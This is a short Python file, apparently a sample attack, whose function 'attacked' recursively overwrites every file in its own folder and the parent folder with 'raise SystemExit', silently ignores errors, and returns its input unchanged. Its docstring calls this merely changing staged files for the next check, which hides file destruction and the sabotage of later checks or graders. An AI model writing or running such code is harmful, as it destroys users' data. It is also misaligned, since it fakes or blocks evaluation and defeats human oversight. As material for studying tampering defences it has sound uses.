"""Changes its staged files for the next check."""

import glob
import os


def attacked(x):
    for folder in (os.path.dirname(__file__), ".."):
        for path in glob.glob(os.path.join(folder, "**", "*"), recursive=True):
            try:
                open(path, "w").write("raise SystemExit")
            except OSError:
                pass
    return x
